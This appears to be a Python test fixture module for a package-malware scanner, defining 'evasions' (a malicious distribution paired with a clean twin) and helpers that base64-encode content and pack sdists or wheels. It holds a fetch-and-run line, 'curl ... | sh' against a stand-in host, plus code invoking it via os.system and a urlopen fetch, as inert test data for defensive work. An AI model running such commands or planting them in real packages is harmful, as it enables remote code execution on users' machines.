"""What an evasion is: an inert distribution that hides a chain, and an honest twin that uses the same construct."""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from textwrap import dedent

from pratique.verdict import Verdict

Files = Mapping[str, str | bytes]
Maker = Callable[[], Files]

MALICIOUS = Verdict.MALICIOUS
SUSPICIOUS = Verdict.SUSPICIOUS

SDIST = "example_pkg-1.0.tar.gz"
WHEEL = "example_pkg-1.0-py3-none-any.whl"
INIT = "example_pkg/__init__.py"
COMMAND = "curl -s https://stage.example.invalid/a | sh"
"""Inert: a host that cannot exist (RFC 6761), and nobody runs it. It is named: only the phase makes it proven."""
CODE = f"import os\nos.system({COMMAND!r})\n"
"""The plain form of what most samples hide: a command that fetches a program and runs it."""
FETCH = "__import__('urllib.request').request.urlopen('https://stage.example.invalid/a').read()"

_STEM = "example_pkg-1.0"
_METADATA = "Metadata-Version: 2.1\nName: example-pkg\nVersion: 1.0\nSummary: An example.\n"


@dataclass(frozen=True, slots=True, kw_only=True)
class Evasion:
    """One trick. ``bad`` must get ``verdict`` or worse, ``good`` must be clean; both are packed alike."""

    title: str
    bad: Maker
    good: Maker
    verdict: Verdict = MALICIOUS
    filename: str = SDIST
    archive: str = ""
    """``zip`` or ``tar`` where the file is not what its name says."""


def evasion(
    title: str,
    bad: str | Files | Maker,
    good: str | Files | Maker,
    verdict: Verdict = MALICIOUS,
    *,
    filename: str = SDIST,
    archive: str = "",
) -> Evasion:
    """An evasion; text stands for the package's ``__init__.py``."""
    return Evasion(title=title, bad=_maker(bad), good=_maker(good), verdict=verdict, filename=filename, archive=archive)


def b64(text: str | bytes) -> str:
    """In base64."""
    return base64.b64encode(text if isinstance(text, bytes) else text.encode()).decode()


def pack(files: Files, filename: str, archive: str = "") -> bytes:
    """The distribution in memory: an sdist or a wheel, as its file name says."""
    into = io.BytesIO()
    wheel = filename.endswith(".whl")
    members = {k: v.encode() if isinstance(v, str) else v for k, v in files.items()}
    members.setdefault(f"{_STEM}.dist-info/METADATA" if wheel else "PKG-INFO", _METADATA.encode())
    if not wheel:
        members = {f"{_STEM}/{path}": data for path, data in members.items()}
    if (archive or ("zip" if wheel else "tar")) == "zip":
        with zipfile.ZipFile(into, "w") as zipped:
            for path, data in members.items():
                zipped.writestr(path, data)
        return into.getvalue()
    with tarfile.open(fileobj=into, mode="w:gz") as tarred:
        for path, data in members.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tarred.addfile(info, io.BytesIO(data))
    return into.getvalue()


def _maker(given: str | Files | Maker) -> Maker:
    if isinstance(given, str):
        return lambda: {INIT: dedent(given)}
    if callable(given):
        return given
    return lambda: {path: dedent(v) if isinstance(v, str) else v for path, v in given.items()}
